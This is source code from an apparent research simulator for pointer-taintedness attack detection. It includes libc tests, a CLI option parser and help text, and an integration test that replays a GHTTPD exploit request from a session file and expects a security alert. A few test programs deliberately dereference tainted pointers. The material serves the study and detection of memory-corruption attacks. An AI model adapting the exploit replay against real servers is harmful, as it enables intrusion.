            WorldConfig::new().session(ptaint_os::NetSession::new(vec![b"ping".to_vec()])),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.transcripts[0], b"ack:ping");
    }

    #[test]
    fn percent_n_counts_output() {
        // Benign %n usage: pointer to a program variable, untainted — no alert.
        let out = run(
            r#"int main() {
                int count = 0;
                printf("abcde%n", &count);
                printf("|%d", count);
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.stdout_text(), "abcde|5");
    }

    #[test]
    fn rand_is_deterministic() {
        let out = run(
            r#"int main() {
                srand(42);
                int a = rand();
                srand(42);
                int b = rand();
                if (a != b) return 1;
                if (a < 0 || a > 32767) return 2;
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
    }

    #[test]
    fn exit_propagates_status() {
        let out = run(r"int main() { exit(3); return 0; }", WorldConfig::new());
        assert_eq!(out.reason, ExitReason::Exited(3));
    }

    #[test]
    fn no_alert_on_benign_workload() {
        // Copy tainted input around, index arrays with validated bytes:
        // exercises the false-positive story on a small scale.
        let out = run(
            r#"int freq[256];
               int main() {
                char buf[128];
                int i; int n = 0;
                int c = getchar();
                while (c >= 0 && n < 120) { buf[n] = c; n++; c = getchar(); }
                for (i = 0; i < n; i++) {
                    int b = checked_index(buf[i] & 0xff, 0, 255);
                    freq[b]++;
                }
                printf("%d %d", n, freq['a']);
                return 0;
            }"#,
            WorldConfig::new().stdin(b"aabbaacc".to_vec()),
        );
        assert_eq!(
            out.reason,
            ExitReason::Exited(0),
            "stdout: {}",
            out.stdout_text()
        );
        assert_eq!(out.stdout_text(), "8 4");
    }
}

#[cfg(test)]
mod libc_extras_tests {
    use super::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_mem::HierarchyConfig;
    use ptaint_os::{load, run_to_exit, ExitReason, WorldConfig};

    fn run(app_c: &str, world: WorldConfig) -> ptaint_os::RunOutcome {
        let image = build(app_c).unwrap_or_else(|e| panic!("build failed: {e}"));
        let (mut cpu, mut os) = load(
            &image,
            world,
            DetectionPolicy::PointerTaintedness,
            HierarchyConfig::flat(),
        );
        run_to_exit(&mut cpu, &mut os, 50_000_000)
    }

    #[test]
    fn ctype_helpers() {
        let out = run(
            r#"int main() {
                if (!isdigit('7') || isdigit('x')) return 1;
                if (!isalpha('g') || !isalpha('G') || isalpha('7')) return 2;
                if (!isspace(' ') || !isspace('\n') || isspace('.')) return 3;
                if (toupper('a') != 'A' || toupper('Z') != 'Z') return 4;
                if (tolower('Q') != 'q' || tolower('3') != '3') return 5;
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
    }

    #[test]
    fn qsort_with_function_pointer_comparators() {
        let out = run(
            r#"int ascending(int a, int b) { return a - b; }
               int descending(int a, int b) { return b - a; }
               int v[10];
               int main() {
                   int i;
                   srand(7);
                   for (i = 0; i < 10; i++) v[i] = rand() % 100;
                   qsort(v, 10, ascending);
                   for (i = 1; i < 10; i++) if (v[i-1] > v[i]) return 1;
                   if (bsearch_int(v, 10, v[4]) < 0) return 2;
                   if (bsearch_int(v, 10, -999) != -1) return 3;
                   qsort(v, 10, descending);
                   for (i = 1; i < 10; i++) if (v[i-1] < v[i]) return 4;
                   printf("sorted\n");
                   return 0;
               }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{}", out.stdout_text());
        assert_eq!(out.stdout_text(), "sorted\n");
    }

    #[test]
    fn qsort_on_tainted_data_is_alert_free() {
        // Sorting attacker-controlled values moves tainted words around and
        // calls through a (clean) function pointer: no alert.
        let out = run(
            r#"int ascending(int a, int b) { return a - b; }
               int v[16];
               int main() {
                   char buf[64];
                   int n = 0;
                   int i = 0;
                   while (n < 16 && scanf("%d", &v[n]) > 0) n++;
                   qsort(v, n, ascending);
                   for (i = 0; i < n; i++) printf("%d ", v[i]);
                   return 0;
               }"#,
            WorldConfig::new().stdin(b"5 3 9 1 7".to_vec()),
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{}", out.stdout_text());
        assert_eq!(out.stdout_text(), "1 3 5 7 9 ");
    }
}

#[cfg(test)]
mod libc_sscanf_realloc_tests {
    use super::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_mem::HierarchyConfig;
    use ptaint_os::{load, run_to_exit, ExitReason, WorldConfig};

    fn run(app_c: &str, world: WorldConfig) -> ptaint_os::RunOutcome {
        let image = build(app_c).unwrap_or_else(|e| panic!("build failed: {e}"));
        let (mut cpu, mut os) = load(
            &image,
            world,
            DetectionPolicy::PointerTaintedness,
            HierarchyConfig::flat(),
        );
        run_to_exit(&mut cpu, &mut os, 50_000_000)
    }

    #[test]
    fn sscanf_parses_words_and_numbers() {
        let out = run(
            r#"int main() {
                char word[16];
                int x;
                int y;
                int n = sscanf("  alpha  -42 17", "%s %d %d", word, &x, &y);
                printf("%d %s %d %d\n", n, word, x, y);
                n = sscanf("beta", "%s %d", word, &x);
                printf("%d %s\n", n, word);
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{}", out.stdout_text());
        assert_eq!(out.stdout_text(), "3 alpha -42 17\n1 beta\n");
    }

    #[test]
    fn realloc_grows_shrinks_and_preserves() {
        let out = run(
            r#"int main() {
                int i;
                char *p = malloc(16);
                for (i = 0; i < 16; i++) p[i] = 'a' + i;
                char *q = realloc(p, 100);         /* grow: copies */
                for (i = 0; i < 16; i++) if (q[i] != 'a' + i) return 1;
                char *r = realloc(q, 8);           /* shrink: in place */
                if (r != q) return 2;
                char *z = realloc(0, 10);          /* NULL -> malloc */
                if (!z) return 3;
                if (realloc(z, 0) != 0) return 4;  /* 0 -> free */
                printf("realloc ok\n");
                return 0;
            }"#,
            WorldConfig::new(),
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{}", out.stdout_text());
        assert_eq!(out.stdout_text(), "realloc ok\n");
    }

    #[test]
    fn realloc_copies_taint_with_the_data() {
        // Tainted bytes moved by realloc stay tainted: dereferencing a word
        // rebuilt from them still alerts.
        let out = run(
            r#"int main() {
                char *p = malloc(8);
                int n = read(0, p, 4);
                char *q = realloc(p, 64);
                int v = *(int*)q;          /* tainted word */
                return *(int*)v;           /* dereference -> alert */
            }"#,
            WorldConfig::new().stdin(b"aaaa".to_vec()),
        );
        let alert = out.reason.alert().expect("taint must survive realloc");
        assert_eq!(alert.pointer, 0x6161_6161);
    }
}
