//! The paper's §5.1.2 GHTTPD attack, driven the way an operator would run
//! it: a binary exploit payload written to a `--session` file with `\xNN`
//! escapes, replayed through the CLI entry points with provenance enabled.

use ptaint_guest::apps::ghttpd;

/// Renders raw payload bytes as one session-file line (see
/// `unescape_session_line` in the CLI).
fn escape_session_line(bytes: &[u8]) -> String {
    let mut line = String::with_capacity(bytes.len());
    for &b in bytes {
        match b {
            b'\\' => line.push_str("\\\\"),
            0x20..=0x7e => line.push(b as char),
            _ => line.push_str(&format!("\\x{b:02x}")),
        }
    }
    line
}

#[test]
fn ghttpd_attack_via_session_file_reports_provenance() {
    // The exploit request targets the server's request buffer, so build the
    // payload against the same image the CLI will run.
    let image = ptaint_guest::build(ghttpd::SOURCE).expect("builds");
    let request = ghttpd::attack_request(&image);

    let session_path = format!("{}/ghttpd_attack.session", env!("CARGO_TARGET_TMPDIR"));
    std::fs::write(&session_path, escape_session_line(&request) + "\n").unwrap();

    let args: Vec<String> = ["ghttpd.c", "--session", &session_path, "--provenance"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    let opts = ptaint_cli::parse_args(&args).unwrap();

    // The escapes round-trip the payload exactly.
    assert_eq!(opts.sessions, vec![vec![request.clone()]]);

    let machine = ptaint_cli::build_machine(&opts, ghttpd::SOURCE).unwrap();
    let (report, code) = ptaint_cli::run_machine(&opts, &machine);

    assert_eq!(code, 42, "{report}");
    assert!(report.contains("SECURITY ALERT"), "{report}");
    // The forensic chain runs from the tainting recv to the flagged load.
    assert!(report.contains("--- provenance ---"), "{report}");
    assert!(report.contains("taint source: recv#1"), "{report}");
    assert!(report.contains("flagged: $"), "{report}");
    // The alert report includes the execution tail (satellite: the ring is
    // rendered on detection even without --trace).
    assert!(report.contains("--- last "), "{report}");
}
