//! `ptaint-run` — compile a mini-C (or assembly) guest program and execute
//! it on the pointer-taintedness detection architecture. See the library
//! docs (`ptaint_cli`) for the option reference.

use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.iter().any(|a| a == "--help" || a == "-h") {
        println!(
            "ptaint-run <program.c|program.s> [options]\n\
             ptaint-run analyze <program.c|program.s> [options]\n\
             ptaint-run inject <program.c|program.s> [options]\n\
             ptaint-run profile <program.c|program.s> [options]\n\
             ptaint-run replay <program.c|program.s> --journal FILE [options]\n\
             \n\
             analyze              print the static taint lint report and\n\
                                  exit (0 clean, 3 with findings); only\n\
                                  recognized as the first argument (use\n\
                                  `ptaint-run ./analyze` to run a file of\n\
                                  that name)\n\
             inject               run a deterministic fault-injection\n\
                                  campaign (baseline + --trials seeded\n\
                                  faults) and emit the JSON report; same\n\
                                  seed => byte-identical report\n\
             profile              run with the hot-loop profiler and print\n\
                                  the top-N report: hot blocks/pcs, taint\n\
                                  hotspots, syscall table, call paths\n\
             replay               re-execute a run from a syscall journal\n\
                                  recorded with --journal-out; bit-exact\n\
                                  retrace, no world attached; a guest that\n\
                                  leaves the recording stops with a\n\
                                  `replay diverged` outcome\n\
             \n\
             --asm                input is assembly\n\
             --optimize           peephole-optimize the generated code\n\
             --policy P           off | control-only | ptaint (default)\n\
             --engine E           interp | cached (default)\n\
             --elide-checks       skip taint checks at statically proven\n\
                                  clean sites (ptaint policy only)\n\
             -j N, --jobs N       worker threads: analysis fixpoint and\n\
                                  inject campaign shards (also -jN);\n\
                                  byte-identical output for any N\n\
             --analysis-cache DIR ptaint-proofs v1 store keyed by image\n\
                                  hash; a warm entry skips the static\n\
                                  fixpoint at boot and under `analyze`\n\
             --emit-proofs        (analyze) store the computed proofs into\n\
                                  the --analysis-cache directory\n\
             --stdin FILE         stdin bytes from FILE (tainted)\n\
             --stdin-text STRING  stdin bytes inline (tainted)\n\
             --arg S / --env K=V  guest argv / environment (repeatable)\n\
             --file PATH=HOST     mount HOST file at guest PATH (repeatable)\n\
             --session FILE       scripted client, one message per line\n\
                                  (\\xNN hex escapes for raw payload bytes)\n\
             --watch SYMBOL:LEN   annotate never-tainted data (§5.3)\n\
             --caches             model L1/L2 caches\n\
             --pipeline           5-stage pipeline timing model\n\
             --steps N            step budget\n\
             --watchdog-ms N      wall-clock watchdog on the run\n\
             --seed N             (inject) campaign seed, default 1\n\
             --trials N           (inject) faulted trials, default 32\n\
             --faults LIST        (inject) comma-separated fault kinds\n\
             --fork / --no-fork   (inject) fork trials copy-on-write from\n\
                                  one post-boot snapshot (default) or\n\
                                  reboot each from _start; reports are\n\
                                  byte-identical either way\n\
             --report FILE        (inject) write campaign JSON to FILE\n\
             --journal-out FILE   record the syscall journal for `replay`\n\
             --journal FILE       (replay) journal to re-serve the run from\n\
             --trace-out FILE     write the event stream (JSONL) to FILE\n\
             --metrics-out FILE   write the metrics snapshot (JSON) to FILE\n\
             --metrics-interval N interleave a metrics_snapshot record into\n\
                                  the JSONL stream every N retired\n\
                                  instructions (needs --trace-out)\n\
             --profile-out FILE   write the profile JSON to FILE (counts\n\
                                  only; byte-deterministic)\n\
             --provenance         print the forensic taint chain on detection\n\
             --trace-depth N      retired-instruction ring depth\n\
             --disasm             print disassembly and exit\n\
             --quiet              program output only\n\
             \n\
             exit code: guest status; 42 on a security detection; 2 on\n\
             usage/read/build errors, including a missing or malformed\n\
             --journal file and, under `analyze`, an unreadable or corrupt\n\
             --analysis-cache entry (the entry is re-analyzed cold and the\n\
             report still printed — never a panic — but the exit code\n\
             reports the bad cache, taking priority over 3); 3 on analyze\n\
             findings; 4 when a requested artifact file (--trace-out,\n\
             --metrics-out, --profile-out, --report, --journal-out, or an\n\
             --emit-proofs entry) cannot be written"
        );
        return ExitCode::SUCCESS;
    }
    let opts = match ptaint_cli::parse_args(&args) {
        Ok(opts) => opts,
        Err(e) => {
            eprintln!("ptaint-run: {e}");
            return ExitCode::from(2);
        }
    };
    let source = match std::fs::read_to_string(&opts.program) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("ptaint-run: cannot read `{}`: {e}", opts.program);
            return ExitCode::from(2);
        }
    };
    let machine = match ptaint_cli::build_machine(&opts, &source) {
        Ok(m) => m,
        Err(e) => {
            eprintln!("ptaint-run: {e}");
            return ExitCode::from(2);
        }
    };
    let (report, code) = ptaint_cli::run_machine(&opts, &machine);
    print!("{report}");
    ExitCode::from(u8::try_from(code.rem_euclid(256)).unwrap_or(1))
}
