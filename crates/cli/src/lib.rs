#![warn(missing_docs)]

//! # ptaint-cli — drive the taintedness architecture from the shell
//!
//! ```text
//! ptaint-run program.c [options]
//! ptaint-run analyze program.c [options]
//! ptaint-run inject program.c [options]
//! ptaint-run profile program.c [options]
//! ptaint-run replay program.c --journal FILE [options]
//!
//! The `analyze` subcommand runs the static taint dataflow analysis
//! (`ptaint-analyze`) over the built image and prints the lint report —
//! tainted-pointer dereference sites with disassembly and reachability —
//! instead of executing the program. It exits 0 when nothing is flagged
//! and 3 when the report contains findings. The keyword is recognized only
//! as the **first** argument, so a source file that happens to be named
//! `analyze` can still be run: `ptaint-run ./analyze`.
//!
//! The `inject` subcommand runs a deterministic fault-injection campaign
//! (`ptaint-inject`) against the configured workload: a fault-free
//! baseline plus `--trials` seeded injections, each classified against the
//! baseline's verdict (detected / missed / false-alert / benign /
//! guest-fault / watchdog). The JSON report is byte-identical for the same
//! `--seed` and workload. Like `analyze`, the keyword is positional.
//!
//! The `profile` subcommand (`ptaint-profile`) runs the program with the
//! hot-loop profiler enabled and prints a top-N report: hot blocks and pcs
//! (per-PC retirement histogram, symbolized), taint hotspots (the
//! TaintSource/PointerCheck/Alert/check-elided heatmap by site and
//! symbol), the per-syscall count/step-latency table, and collapsed call
//! stacks. `--profile-out FILE` writes the full profile as JSON — counts
//! only, no wall-clock data, so a deterministic guest profiles
//! byte-identically. `--profile-out` also works without the subcommand
//! (collect during a normal run, skip the printed report). Like
//! `analyze`, the keyword is positional.
//!
//! The `replay` subcommand re-executes a run from a syscall journal
//! recorded with `--journal-out`: every syscall result and every delivered
//! input byte is re-served from the journal instead of the world, so the
//! guest retraces the recorded execution bit-exactly — same exit reason,
//! same statistics — with no stdin, files, or scripted sessions attached.
//! A guest that issues a different syscall than the journal recorded stops
//! with a structured `replay diverged` outcome (exit 1). World side
//! effects (stdout, transcripts) are not re-performed. Like `analyze`,
//! the keyword is positional.
//!
//! options:
//!   --asm                 input is assembly, not mini-C
//!   --optimize            enable the mini-C peephole optimizer
//!   --policy P            off | control-only | ptaint     (default: ptaint)
//!   --engine E            interp | cached                  (default: cached)
//!   --elide-checks        statically prove check sites clean and skip
//!                         their taint checks at runtime (cached engine,
//!                         ptaint policy only)
//!   -j N, --jobs N        worker threads, for the analysis fixpoint and
//!                         for `inject` campaign shards (default for the
//!                         latter: available parallelism); the output is
//!                         byte-identical for every N (also `-jN`)
//!   --analysis-cache DIR  content-addressed `ptaint-proofs v1` store: a
//!                         warm entry keyed by the image hash skips the
//!                         static fixpoint at boot (and for `analyze`)
//!   --emit-proofs         (analyze) store the computed proofs into the
//!                         `--analysis-cache` directory
//!   --stdin FILE          feed FILE's bytes as standard input (tainted)
//!   --stdin-text STRING   feed STRING as standard input (tainted)
//!   --arg STRING          append a command-line argument (repeatable)
//!   --env NAME=VALUE      append an environment string (repeatable)
//!   --file PATH=HOSTFILE  mount HOSTFILE at PATH in the guest FS (repeatable)
//!   --session FILE        one network client session; FILE holds one
//!                         message per line, with `\xNN` hex escapes and
//!                         `\\` for raw bytes (repeatable)
//!   --watch SYMBOL:LEN    annotate SYMBOL (never-tainted, §5.3 extension)
//!   --caches              model the two-level cache hierarchy
//!   --pipeline            run through the 5-stage pipeline timing model
//!   --steps N             step budget (default 500M)
//!   --watchdog-ms N       wall-clock watchdog: runs exceeding N milliseconds
//!                         stop with a `watchdog expired` outcome
//!   --seed N              (inject) campaign seed             (default 1)
//!   --trials N            (inject) faulted trials            (default 32)
//!   --fork / --no-fork    (inject) fork each trial copy-on-write from one
//!                         post-boot snapshot (default) or reboot every
//!                         trial from `_start`; the report is byte-
//!                         identical either way
//!   --faults LIST         (inject) comma-separated fault kinds to sample:
//!                         short_read,eintr,conn_reset,fragment,data_bit,
//!                         taint_clear,taint_set,register_bit,cache_line,
//!                         multi_bit,taint_sweep,decode_slot,proven_flip,
//!                         proof_cache
//!   --report FILE         (inject) write the campaign JSON to FILE instead
//!                         of stdout
//!   --journal-out FILE    record the run's syscall journal (results and
//!                         delivered input bytes) to FILE for `replay`
//!   --journal FILE        (replay) the journal to re-serve the run from
//!   --trace-out FILE      write the structured event stream (JSONL) to FILE
//!   --metrics-out FILE    write the aggregated metrics snapshot (JSON) to FILE
//!   --metrics-interval N  interleave a `metrics_snapshot` record into the
//!                         JSONL stream every N retired instructions
//!                         (time-series metrics; needs --trace-out)
//!   --profile-out FILE    write the profile JSON (per-PC histogram, taint
//!                         heatmap, syscall table, collapsed stacks) to FILE
//!   --provenance          track taint provenance; on a detection, print the
//!                         forensic chain from input byte to flagged pointer
//!   --trace-depth N       depth of the recently-retired diagnostic ring
//!   --disasm              print the program disassembly and exit
//!   --quiet               suppress the banner and statistics
//! ```
//!
//! The process exit code is the guest's exit status; detections exit 42;
//! usage, read, and build errors exit 2, including an unreadable or
//! malformed `--journal` file and — for `analyze` — an unreadable or
//! corrupt `--analysis-cache` entry (the corrupt entry is re-analyzed
//! cold and the report still printed, never a panic, but the exit code
//! reports the bad cache and takes priority over exit 3); `analyze`
//! findings exit 3; a failure to write a requested artifact
//! (`--trace-out`, `--metrics-out`, `--profile-out`, `--report`,
//! `--journal-out`, `--emit-proofs`) exits 4 so scripts never mistake
//! lost data for success.

use std::fmt::Write as _;
use std::time::Duration;

use ptaint::{
    CampaignSpec, DetectionPolicy, Engine, ExitReason, FaultKind, Machine, NetSession,
    SyscallJournal, ToJson, TraceConfig, TraceReport, WorldConfig,
};

/// Exit code for a failure to persist a requested artifact.
pub const EXIT_ARTIFACT: i32 = 4;

/// Rows per section in the `profile` subcommand's printed report.
const PROFILE_TOP_N: usize = 10;

/// Parsed command-line options.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Options {
    /// Path of the guest program source.
    pub program: String,
    /// Run the static analyzer and print the lint report instead of
    /// executing (the `analyze` subcommand).
    pub analyze: bool,
    /// Run a fault-injection campaign instead of a single execution (the
    /// `inject` subcommand).
    pub inject: bool,
    /// Run with the profiler and print the top-N report (the `profile`
    /// subcommand).
    pub profile: bool,
    /// Re-serve a recorded syscall journal instead of running against the
    /// world (the `replay` subcommand).
    pub replay: bool,
    /// Path of the journal to replay (`--journal`, replay only).
    pub journal_in: Option<String>,
    /// Record the run's syscall journal here (`--journal-out`).
    pub journal_out: Option<String>,
    /// Reboot campaign trials from `_start` instead of forking them
    /// copy-on-write from one post-boot snapshot (`--no-fork`, inject
    /// only; forking is the default and byte-identical).
    pub no_fork: bool,
    /// Write the profile JSON here (implies profile collection).
    pub profile_out: Option<String>,
    /// Interleave `metrics_snapshot` records into the JSONL stream every N
    /// retired instructions (`--metrics-interval`; needs `--trace-out`).
    pub metrics_interval: Option<u64>,
    /// Campaign seed (`--seed`, inject only).
    pub seed: Option<u64>,
    /// Campaign trial count (`--trials`, inject only).
    pub trials: Option<u64>,
    /// Restricted fault kinds (`--faults`, inject only; empty = all).
    pub fault_kinds: Vec<FaultKind>,
    /// Write the campaign JSON here instead of stdout (`--report`).
    pub report_out: Option<String>,
    /// Treat the program as assembly instead of mini-C.
    pub asm: bool,
    /// Run the peephole optimizer (mini-C only).
    pub optimize: bool,
    /// Detection policy.
    pub policy: Option<DetectionPolicy>,
    /// Execution engine (predecoded cache by default; `interp` keeps the
    /// legacy interpreter available as the differential oracle).
    pub engine: Option<Engine>,
    /// Skip taint checks at statically proven-clean sites.
    pub elide_checks: bool,
    /// Analysis proof-cache directory (`--analysis-cache`).
    pub analysis_cache: Option<String>,
    /// Analysis fixpoint worker threads (`-j` / `--jobs`).
    pub jobs: Option<usize>,
    /// Store the computed proofs into the cache (`analyze --emit-proofs`).
    pub emit_proofs: bool,
    /// Stdin bytes.
    pub stdin: Vec<u8>,
    /// Guest argv (the program name is prepended automatically).
    pub args: Vec<String>,
    /// Guest environment strings.
    pub envs: Vec<String>,
    /// Guest files: (guest path, contents).
    pub files: Vec<(String, Vec<u8>)>,
    /// Network sessions, one `Vec` of messages each.
    pub sessions: Vec<Vec<Vec<u8>>>,
    /// §5.3 annotations: (symbol, length).
    pub watches: Vec<(String, u32)>,
    /// Model the cache hierarchy.
    pub caches: bool,
    /// Use the pipeline timing model.
    pub pipeline: bool,
    /// Step budget.
    pub steps: Option<u64>,
    /// Wall-clock watchdog in milliseconds.
    pub watchdog_ms: Option<u64>,
    /// Print disassembly and exit.
    pub disasm: bool,
    /// Print the last retired instructions after the run.
    pub trace: bool,
    /// Write the JSONL event stream here.
    pub trace_out: Option<String>,
    /// Write the metrics snapshot (JSON) here.
    pub metrics_out: Option<String>,
    /// Track taint provenance and print the forensic chain on a detection.
    pub provenance: bool,
    /// Depth of the recently-retired diagnostic ring.
    pub trace_depth: Option<usize>,
    /// Suppress banner/statistics.
    pub quiet: bool,
}

/// A CLI usage error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UsageError(pub String);

impl std::fmt::Display for UsageError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::error::Error for UsageError {}

/// Reads a host file, mapping errors to usage errors.
fn read_host(path: &str) -> Result<Vec<u8>, UsageError> {
    std::fs::read(path).map_err(|e| UsageError(format!("cannot read `{path}`: {e}")))
}

/// Decodes one session-file line into message bytes.
///
/// Session files are line-oriented text, but real exploit payloads carry
/// raw bytes (addresses, NULs) that cannot survive a UTF-8 text file: the
/// escapes `\xNN` (one byte from two hex digits) and `\\` (a literal
/// backslash) express them. Any other sequence is a usage error.
fn unescape_session_line(line: &str) -> Result<Vec<u8>, UsageError> {
    let mut bytes = Vec::with_capacity(line.len());
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            let mut buf = [0u8; 4];
            bytes.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            continue;
        }
        match chars.next() {
            Some('\\') => bytes.push(b'\\'),
            Some('x') => {
                let hi = chars.next();
                let lo = chars.next();
                let (Some(hi), Some(lo)) = (
                    hi.and_then(|c| c.to_digit(16)),
                    lo.and_then(|c| c.to_digit(16)),
                ) else {
                    return Err(UsageError(format!(
                        "bad `\\x` escape in session line `{line}` (expects two hex digits)"
                    )));
                };
                bytes.push((hi * 16 + lo) as u8);
            }
            other => {
                return Err(UsageError(format!(
                    "unknown escape `\\{}` in session line `{line}` (use \\xNN or \\\\)",
                    other.map(String::from).unwrap_or_default()
                )))
            }
        }
    }
    Ok(bytes)
}

/// Parses the argument vector (without the leading program name).
///
/// # Errors
///
/// Returns a [`UsageError`] describing the offending flag.
pub fn parse_args(args: &[String]) -> Result<Options, UsageError> {
    let mut opts = Options::default();
    let mut it = args.iter().peekable();
    // `analyze`/`inject` are subcommands only in the very first argument
    // position, so a source file literally named after one stays runnable
    // (`ptaint-run ./analyze`, `ptaint-run --asm inject`).
    match args.first().map(String::as_str) {
        Some("analyze") => {
            opts.analyze = true;
            it.next();
        }
        Some("inject") => {
            opts.inject = true;
            it.next();
        }
        Some("profile") => {
            opts.profile = true;
            it.next();
        }
        Some("replay") => {
            opts.replay = true;
            it.next();
        }
        _ => {}
    }
    let value = |it: &mut std::iter::Peekable<std::slice::Iter<String>>,
                 flag: &str|
     -> Result<String, UsageError> {
        it.next()
            .cloned()
            .ok_or_else(|| UsageError(format!("`{flag}` needs a value")))
    };
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--asm" => opts.asm = true,
            "--optimize" => opts.optimize = true,
            "--elide-checks" => opts.elide_checks = true,
            "--caches" => opts.caches = true,
            "--pipeline" => opts.pipeline = true,
            "--disasm" => opts.disasm = true,
            "--trace" => opts.trace = true,
            "--quiet" => opts.quiet = true,
            "--policy" => {
                let v = value(&mut it, "--policy")?;
                opts.policy = Some(match v.as_str() {
                    "off" => DetectionPolicy::Off,
                    "control-only" | "control" => DetectionPolicy::ControlOnly,
                    "ptaint" | "full" => DetectionPolicy::PointerTaintedness,
                    other => {
                        return Err(UsageError(format!(
                            "unknown policy `{other}` (off | control-only | ptaint)"
                        )))
                    }
                });
            }
            "--engine" => {
                let v = value(&mut it, "--engine")?;
                opts.engine = Some(match v.as_str() {
                    "interp" | "interpreter" => Engine::Interp,
                    "cached" | "predecoded" => Engine::Cached,
                    other => {
                        return Err(UsageError(format!(
                            "unknown engine `{other}` (interp | cached)"
                        )))
                    }
                });
            }
            "--stdin" => {
                let path = value(&mut it, "--stdin")?;
                opts.stdin = read_host(&path)?;
            }
            "--stdin-text" => {
                opts.stdin = value(&mut it, "--stdin-text")?.into_bytes();
            }
            "--arg" => opts.args.push(value(&mut it, "--arg")?),
            "--env" => opts.envs.push(value(&mut it, "--env")?),
            "--file" => {
                let spec = value(&mut it, "--file")?;
                let (guest, host) = spec
                    .split_once('=')
                    .ok_or_else(|| UsageError("`--file` expects PATH=HOSTFILE".into()))?;
                opts.files.push((guest.to_owned(), read_host(host)?));
            }
            "--session" => {
                let path = value(&mut it, "--session")?;
                let bytes = read_host(&path)?;
                let messages = String::from_utf8_lossy(&bytes)
                    .lines()
                    .map(unescape_session_line)
                    .collect::<Result<Vec<_>, _>>()?;
                opts.sessions.push(messages);
            }
            "--watch" => {
                let spec = value(&mut it, "--watch")?;
                let (sym, len) = spec
                    .split_once(':')
                    .ok_or_else(|| UsageError("`--watch` expects SYMBOL:LEN".into()))?;
                let len: u32 = len
                    .parse()
                    .map_err(|_| UsageError(format!("bad watch length `{len}`")))?;
                opts.watches.push((sym.to_owned(), len));
            }
            "--steps" => {
                let v = value(&mut it, "--steps")?;
                opts.steps = Some(
                    v.parse()
                        .map_err(|_| UsageError(format!("bad step count `{v}`")))?,
                );
            }
            "--watchdog-ms" => {
                let v = value(&mut it, "--watchdog-ms")?;
                opts.watchdog_ms = Some(
                    v.parse()
                        .map_err(|_| UsageError(format!("bad watchdog `{v}` (milliseconds)")))?,
                );
            }
            "--seed" => {
                let v = value(&mut it, "--seed")?;
                opts.seed = Some(
                    v.parse()
                        .map_err(|_| UsageError(format!("bad seed `{v}`")))?,
                );
            }
            "--trials" => {
                let v = value(&mut it, "--trials")?;
                opts.trials = Some(
                    v.parse()
                        .map_err(|_| UsageError(format!("bad trial count `{v}`")))?,
                );
            }
            "--faults" => {
                let v = value(&mut it, "--faults")?;
                for token in v.split(',').filter(|t| !t.is_empty()) {
                    let kind = FaultKind::parse(token).ok_or_else(|| {
                        UsageError(format!(
                            "unknown fault kind `{token}` (one of: {})",
                            FaultKind::ALL.map(FaultKind::name).join(", ")
                        ))
                    })?;
                    opts.fault_kinds.push(kind);
                }
            }
            "--fork" => opts.no_fork = false,
            "--no-fork" => opts.no_fork = true,
            "--journal" => opts.journal_in = Some(value(&mut it, "--journal")?),
            "--journal-out" => opts.journal_out = Some(value(&mut it, "--journal-out")?),
            "--report" => opts.report_out = Some(value(&mut it, "--report")?),
            "--trace-out" => opts.trace_out = Some(value(&mut it, "--trace-out")?),
            "--metrics-out" => opts.metrics_out = Some(value(&mut it, "--metrics-out")?),
            "--profile-out" => opts.profile_out = Some(value(&mut it, "--profile-out")?),
            "--metrics-interval" => {
                let v = value(&mut it, "--metrics-interval")?;
                let n: u64 = v
                    .parse()
                    .ok()
                    .filter(|&n| n > 0)
                    .ok_or_else(|| UsageError(format!("bad metrics interval `{v}`")))?;
                opts.metrics_interval = Some(n);
            }
            "--analysis-cache" => {
                opts.analysis_cache = Some(value(&mut it, "--analysis-cache")?);
            }
            "--emit-proofs" => opts.emit_proofs = true,
            "-j" | "--jobs" => {
                let v = value(&mut it, "--jobs")?;
                opts.jobs = Some(
                    v.parse()
                        .ok()
                        .filter(|&n| n > 0)
                        .ok_or_else(|| UsageError(format!("bad job count `{v}`")))?,
                );
            }
            "--provenance" => opts.provenance = true,
            "--trace-depth" => {
                let v = value(&mut it, "--trace-depth")?;
                opts.trace_depth = Some(
                    v.parse()
                        .map_err(|_| UsageError(format!("bad trace depth `{v}`")))?,
                );
            }
            // The attached spelling `-j4`, matching the make/cargo idiom.
            flag if flag.len() > 2 && flag.starts_with("-j") => {
                let v = &flag[2..];
                opts.jobs = Some(
                    v.parse()
                        .ok()
                        .filter(|&n| n > 0)
                        .ok_or_else(|| UsageError(format!("bad job count `{v}`")))?,
                );
            }
            flag if flag.starts_with("--") => {
                return Err(UsageError(format!("unknown flag `{flag}`")));
            }
            path => {
                if !opts.program.is_empty() {
                    return Err(UsageError(format!("unexpected extra argument `{path}`")));
                }
                opts.program = path.to_owned();
            }
        }
    }
    if opts.program.is_empty() {
        return Err(UsageError(
            "no program given (usage: ptaint-run prog.c [options])".into(),
        ));
    }
    if opts.metrics_interval.is_some() && opts.trace_out.is_none() {
        return Err(UsageError(
            "`--metrics-interval` needs `--trace-out FILE` (the periodic snapshots land in the JSONL stream)".into(),
        ));
    }
    if (opts.profile || opts.profile_out.is_some()) && opts.pipeline {
        return Err(UsageError(
            "`--pipeline` cannot be profiled (the profiler rides the functional engine)".into(),
        ));
